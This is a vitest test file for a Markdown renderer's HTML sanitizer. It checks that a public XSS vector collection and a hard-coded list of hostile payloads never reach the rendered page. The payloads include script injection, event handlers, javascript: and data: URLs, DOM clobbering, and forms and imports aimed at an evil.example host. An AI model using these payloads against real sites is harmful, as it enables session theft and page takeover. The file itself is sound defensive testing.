// Renders every XSS vector of a public collection in the body of a post (source: tests/fixtures/xss/README.md).
// A parser then reads the result, to see what a browser would find in it.
import { readFileSync } from "node:fs";
import { Parser } from "htmlparser2";
import { expect, it } from "vitest";
import { z } from "zod";
import { html } from "./support.ts";

const collection = new URL("../../fixtures/xss/dompurify.json", import.meta.url);
const VECTORS = z.array(z.string()).parse(JSON.parse(readFileSync(collection, "utf8")));

const FORBIDDEN = new Set(
  "applet base embed form link math meta noscript object plaintext script style svg textarea title xmp".split(
    " ",
  ),
);

/** What a browser could run, load or be misled by in a piece of HTML. */
function dangers(text: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (FORBIDDEN.has(name) || name.includes(":")) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on|^style$|^srcdoc$|^formaction$|^action$|^name$|^xlink|^xmlns|^is$/.test(attribute))
          found.push(attribute);
        const address = value.replace(/[\u0000-\u0020]/g, "");
        if (/^(?:href|src|poster|data)$/.test(attribute) && /^(?:javascript|data|vbscript):/i.test(address))
          found.push(value);
        const isPlayer = name === "iframe" && value.startsWith("https://player.vimeo.com/");
        if (attribute === "src" && /^(?:https?:)?\/\//i.test(address) && !isPlayer)
          found.push(`<${name} src=${value}>`);
      }
    },
  });
  parser.end(text);
  return found;
}

/** Of Markdown and of players, which the collection does not have. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<<script>alert(1)//<</script>",
  '<img src=x onerror="alert(1)">',
  '<img src="x" style="background:url(javascript:alert(1))">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVA&#x09;SCRIPT:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "[x](javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:text/html;base64,PHNjcmlwdD4=)",
  '<iframe srcdoc="<script>alert(1)</script>" src="https://vimeo.com/1"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://vimeo.com.evil.example/1"></iframe>',
  '<iframe src="https://user@vimeo.com/1"></iframe>',
  '<iframe src="https://vimeo.com/1" title=\'"><script>alert(1)</script>\'></iframe>',
  '<form action="//evil.example"><input name=a><button formaction=x>b</button></form>',
  "<style>@import '//evil.example';</style>",
  "<style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  '<video src=x onerror=alert(1)><source src="https://evil.example/a" onerror=x></video>',
  '<b id="location" id=x name=cookie>x</b>',
  "## x {onclick=alert(1) style=x}",
  "![x](a.jpg){onerror=alert(1)}",
  '```js" onclick="alert(1)\nx\n```',
  '> [!NOTE" onclick=x]\n> x',
  '[^"onclick=x]\n\n[^"onclick=x]: y',
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  '<p title="a" b="</p><script>alert(1)</script>">x</p>',
  "<plaintext><script>alert(1)</script>",
];

it("finds the collection", () => {
  expect(VECTORS.length).toBeGreaterThan(150);
});

it("recognises dangerous HTML", () => {
  for (const one of ["<svg>", "<b onclick=x>", '<a href="java\nscript:x">', "<img src=//evil.example>"])
    expect(dangers(one)).not.toEqual([]);
});

it.each([
  ["alone", (vector: string) => vector],
  ["in a sentence", (vector: string) => `mot ${vector} mot`],
  ["in a list in a quotation", (vector: string) => `> - ${vector.replaceAll("\n", "\n>   ")}`],
  ["in a table and a note", (vector: string) => `| ${vector} |\n|---|\n| a[^1] |\n\n[^1]: ${vector}`],
  [
    "as an address and an alternative text",
    (vector: string) => `[a](<${vector}>) ![${vector}](a.jpg "${vector}")`,
  ],
  ["between unclosed blocks", (vector: string) => `<table><tr><td>\n\n${vector}\n\n<details>\n\n${vector}`],
])("hostile HTML %s never reaches the page", (_where, body) => {
  for (const vector of VECTORS) expect(dangers(html(body(vector))), vector).toEqual([]);
});

it.each(HOSTILE)("hostile Markdown never reaches the page, and the text around it does: %s", (body) => {
  const page = html(`avant\n\n${body}\n\naprès`);
  expect(dangers(page)).toEqual([]);
  expect(page).toMatch(/<p>avant<\/p>[^]*après/);
});

// That none of their names gets through: tests/browser/xss.test.ts.
it.each(["## a {#cookie}", '<p id="cookie">a</p>', '<a name="cookie"></a>', '<h2 id="cookie">a</h2>'])(
  "an id never has the name of a property of `document` or `window`: %s",
  (body) => {
    expect(html(body)).toContain('id="cookie-1"');
  },
);
